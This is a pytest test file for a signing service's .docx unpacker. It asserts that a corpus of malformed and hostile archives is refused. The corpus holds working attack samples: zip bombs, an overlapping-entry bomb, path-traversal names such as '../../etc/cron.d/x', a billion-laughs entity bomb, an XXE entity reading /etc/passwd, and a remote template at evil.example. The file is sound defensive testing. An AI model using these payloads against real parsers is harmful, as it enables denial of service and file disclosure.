"""What a zip could do to a parser is refused before there is one, whatever its directory claims."""

import io
import resource
import stat
import struct
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from signing.adapters.packed_files import WORD, packed_again, unpack
from signing.domain.errors import Faulty
from tests.adapters.word_documents import CLOSED, MAIN, TYPES, opening, packed, paragraph, word

RELATIONS = (
    '<Relationships xmlns="urn:r"><Relationship Id="a" Type="x/{}" Target="{}" TargetMode="External"/></Relationships>'
)
SHEET_TYPES = TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")
MACRO_TYPES = TYPES.replace(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
HEAD, LOCKED_HEAD = b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
TAGS = "<x>" + "<a/>".join(map(str, range(50_000))) + "</x>"
BOMB = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'


def with_parts(**parts):
    return word(opening(), extra={name.replace("__", "/"): content for name, content in parts.items()})


def entry(name, content=b"x", **fields):
    """A document with one more entry, made with these fields of `ZipInfo`."""
    out = io.BytesIO(CLOSED)
    info = zipfile.ZipInfo(name)
    for field, value in fields.items():
        setattr(info, field, value)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, content)
    return out.getvalue()


def claiming(data, size):
    """The last entry of the directory claims to unpack to so many bytes."""
    at = data.rindex(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<L", size) + data[at + 28 :]


def overlapping(times):
    """A directory whose entries all unpack the same bytes (Fifield's better bomb, at its smallest)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    bytes_ = kernel.compress(b"\0" * 100_000) + kernel.flush()
    local, central = b"", b""
    for at in range(times):
        name = f"a{at}.xml".encode()
        crc = zlib.crc32(b"\0" * 100_000)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(bytes_), 100_000,
                               len(name), 0, 0, 0, 0, 0, 0) + name  # fmt: skip
        local = local or struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(bytes_), 100_000,
                                     len(name), 0) + name + bytes_  # fmt: skip
    types = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 19, 0, 0, 0, 0, 0, 0)
    central += types + b"[Content_Types].xml"
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times + 1, times + 1, len(central), len(local), 0)
    return local + central + end


CORPUS = {
    "two megabytes of nothing": (with_parts(word__media__a="\0" * 2_000_000), "too-large"),
    "a flat bomb": (with_parts(**{"word__a.xml": "<a>" * 2_000_000}), "too-large"),
    "many tags": (with_parts(**{f"word__{n}.xml": TAGS for n in range(8)}), "too-large"),
    "ten thousand entries": (packed({"[Content_Types].xml": TYPES} | {f"{n}": "" for n in range(10_000)}), "docx"),
    "a claim of less than there is": (claiming(entry("word/a.xml", b"x" * 5_000), 10), "docx"),
    "a claim of more than there is": (claiming(entry("word/a.xml", b"x" * 5_000), 9_000), "docx"),
    "a claim of four gigabytes": (claiming(entry("word/a.xml"), 0xFFFF_FFF0), "too-large"),
    "entries that share their bytes": (overlapping(50), "docx"),
    "a document in the document": (with_parts(word__media__a=CLOSED), "docx-unsafe"),
    "a zip under another name": (with_parts(**{"word__a.xml": CLOSED}), "docx-unsafe"),
    "a way out": (entry("../../etc/cron.d/x"), "docx-unsafe"),
    "a way out in the middle": (entry("word/../../x"), "docx-unsafe"),
    "the root": (entry("/etc/x"), "docx-unsafe"),
    "a disk": (entry("C:/x"), "docx-unsafe"),
    "the other slash": (entry("word\\x").replace(b"word/x", b"word\\x"), "docx-unsafe"),
    "an empty step": (entry("word//x"), "docx-unsafe"),
    "a line break in a name": (entry("word/a\nb"), "docx-unsafe"),
    "no character in a name": (entry("word/aXb").replace(b"aXb", b"a\0b"), "docx-unsafe"),
    "a very long name": (entry("a" * 300), "docx-unsafe"),
    "one name twice": (entry("word/Document.xml"), "docx"),
    "a symbolic link": (entry("word/x", create_system=3, external_attr=(stat.S_IFLNK | 0o777) << 16), "docx-unsafe"),
    "a device": (entry("word/x", create_system=3, external_attr=(stat.S_IFCHR | 0o777) << 16), "docx-unsafe"),
    "a password": (CLOSED.replace(HEAD, LOCKED_HEAD), "docx-locked"),
    "a locked or old file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "docx-locked"),
    "no list of types": (packed({"word/document.xml": "<a/>"}), "docx"),
    "a sheet": (packed({"[Content_Types].xml": SHEET_TYPES}), "docx"),
    "macros": (with_parts(**{"word__vbaProject.bin": b"x"}), "docx-unsafe"),
    "a type for macros": (
        with_parts(**{"[Content_Types].xml": MACRO_TYPES}),
        "docx-unsafe",
    ),
    "an embedded object": (with_parts(**{"word__embeddings__oleObject1.bin": b"x"}), "docx-unsafe"),
    "a template from elsewhere": (
        with_parts(**{"word___rels__settings.xml.rels": RELATIONS.format("attachedTemplate", "https://evil.example/t.dotm")}),
        "docx-unsafe",
    ),
    "a template from a share": (
        with_parts(**{"word___rels__settings.xml.rels": RELATIONS.format("attachedTemplate", "file://host/t.dotm")}),
        "docx-unsafe",
    ),
    "a picture from elsewhere": (
        with_parts(**{"word___rels__document.xml.rels": RELATIONS.format("image", "&#104;ttp://evil.example/")}),
        "docx-unsafe",
    ),
    "very deep": (with_parts(**{"word__a.xml": "<a>" * 9_000 + "</a>" * 9_000}), "docx-unsafe"),
    "no XML": (with_parts(**{"word__a.xml": "<a><b></a>"}), "docx"),
    "a billion laughs": (with_parts(**{"word__document.xml": BOMB}), "docx-unsafe"),
    "a billion laughs in UTF-16": (with_parts(**{"word__styles.xml": BOMB.encode("utf-16")}), "docx-unsafe"),
    "an external entity": (
        with_parts(**{"word__comments.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
        "docx-unsafe",
    ),
    "another alphabet": (with_parts(**{"word__a.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}), "docx-unsafe"),
    "words before the zip": (b"#!/bin/sh\n" + CLOSED, "docx"),
    "words behind the zip": (CLOSED + b"more", "docx"),
    "half a file": (CLOSED[: len(CLOSED) // 2], "docx"),
    "eleven megabytes": (CLOSED + b"\0" * 10_000_000, "too-large"),
    "nothing at all": (b"PK", "docx"),
}  # fmt: skip


@pytest.mark.parametrize("name", CORPUS)
def test_it_is_refused_in_words_before_a_parser_sees_it(name):
    data, code = CORPUS[name]
    with pytest.raises(Faulty) as caught:
        unpack(data, WORD)
    assert (caught.value.code, caught.value.field) == (code, "file")
    assert caught.value.message.endswith(".")
    assert "\n" not in caught.value.message


def test_refusing_the_whole_corpus_takes_no_memory_worth_naming():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for data, _ in CORPUS.values():
        with pytest.raises(Faulty):
            unpack(data, WORD)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_a_sound_file_is_handed_on_part_by_part_and_packed_again_without_the_rest():
    data = word(opening() + paragraph("Words."), extra={"word/media/a.png": "\x89PNG", "docProps/": ""})
    parts = unpack(data, WORD)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert parts == {name: archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    with zipfile.ZipFile(packed_again(parts)) as again:
        assert sorted(again.namelist()) == sorted(parts)


def test_a_template_on_the_writers_own_disk_and_links_to_follow_do_no_harm():
    for kind, target in (("attachedTemplate", "file:///C:\\Users\\ada\\NGO.dotx"), ("hyperlink", "https://x.example/")):
        parts = unpack(with_parts(**{"word___rels__settings.xml.rels": RELATIONS.format(kind, target)}), WORD)
        assert "word/document.xml" in parts


@settings(max_examples=80, deadline=None)
@given(st.integers(0, len(CLOSED) - 1), st.binary(max_size=6), st.booleans())
def test_any_other_bytes_are_a_document_or_a_refusal(at, to, insert):
    try:
        parts = unpack(CLOSED[:at] + to + CLOSED[at if insert else at + len(to) :], WORD)
    except Faulty:
        return
    assert "word/document.xml" in parts
    assert all(name.endswith((".xml", ".rels")) for name in parts)
